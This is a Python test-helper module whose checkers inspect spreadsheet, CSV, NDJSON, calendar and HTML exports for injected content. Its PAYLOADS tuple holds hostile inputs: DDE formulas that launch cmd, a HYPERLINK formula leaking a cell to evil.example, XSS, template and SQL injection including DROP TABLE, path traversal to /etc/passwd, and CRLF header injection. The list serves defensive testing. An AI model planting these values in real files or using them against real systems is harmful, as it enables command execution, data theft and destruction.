"""Texts that do harm where they are not treated as texts, and readers that notice when they were not."""

import csv
import io
import json
import re
from typing import Any

import openpyxl

LEADS = ("=", "+", "-", "@", "\t", "\r")
WIDE_LEADS = ("＝", "＋", "－", "＠")  # East Asian spreadsheets read them like the narrow ones
PAYLOADS = (
    "=cmd|' /C calc'!A0", "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", " =1+1", "'=1+1", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n%x", "{0.__class__}",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>",
    "甲\u202e乙\u2066丙", "甲\u200b乙\ufeff", "a\u2028b\u2029c\x85d", "a,b\"c\"\r\nd,e", "a\nBEGIN:VEVENT\nEND:VEVENT", "a;b\\,c:d",
    "data: x\n\nevent: y", "a\x00b", "a\x1b[31mb", "\ud800", "\U0001f3ed" * 40, "中" * 201, "x" * 10_001, "' OR '1'='1", "'; DROP TABLE x;--",
    "%27%22%00", "../../etc/passwd", "..\\..\\x", "a\r\nSet-Cookie: x=1", "a\r\n{\"level\":\"error\"}", "\\u0000", "_x000D_", "&lt;&amp;&#39;",
)  # fmt: skip


def check_workbook(content: bytes) -> list[str]:
    """What a reader of Excel would run, in a workbook of ours: formulas, links, texts that editing turns into formulas."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or cell.hyperlink:
                    found.append(f"{cell.coordinate} {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(LEADS) and not cell.quotePrefix:
                    found.append(f"{cell.coordinate} without its quote {cell.value!r}")
    return found


def check_csv(content: bytes, rows: int) -> list[str]:
    """Cells that a spreadsheet would calculate; rows that were smuggled in."""
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    found = [cell for row in table for cell in row if cell.startswith((*LEADS, *WIDE_LEADS))]
    found += [f"{len(row)} cells" for row in table if len(row) != len(table[0])]
    return found if len(table) == rows + 1 else [*found, f"{len(table)} rows"]


def check_ndjson(content: bytes, rows: int) -> list[str]:
    lines = content.decode().split("\n")[:-1]
    broken = [line for line in lines if not isinstance(json.loads(line), dict)]
    return broken if len(lines) == rows else [*broken, f"{len(lines)} lines"]


def check_calendar(content: bytes) -> list[str]:
    """Lines that are no property, too long, or begin an event inside of another."""
    lines = content.decode().split("\r\n")[:-1]
    found = [line for line in lines if len(line.encode()) > 75 or "\r" in line or "\n" in line]
    whole = "\r\n".join(lines).replace("\r\n ", "").split("\r\n")
    found += [line for line in whole if not re.match(r"[A-Z-]+(;[A-Z-]+=[^:]*)?:", line)]
    depth = 0
    for line in whole:
        depth += line.startswith("BEGIN:") - line.startswith("END:")
        if depth > 2:
            found.append(line)
    return found


def check_page(content: str) -> list[str]:
    """Marks of ours that stand in a page as markup."""
    return [mark for mark in ("<script>alert", "<img src=x", "<svg/onload", "49</") if mark in content]


def texts_in(document: Any) -> list[str]:
    """Every text of a JSON document."""
    if isinstance(document, dict):
        return [text for key, value in document.items() for text in [key, *texts_in(value)]]
    if isinstance(document, list):
        return [text for item in document for text in texts_in(item)]
    return [document] if isinstance(document, str) else []
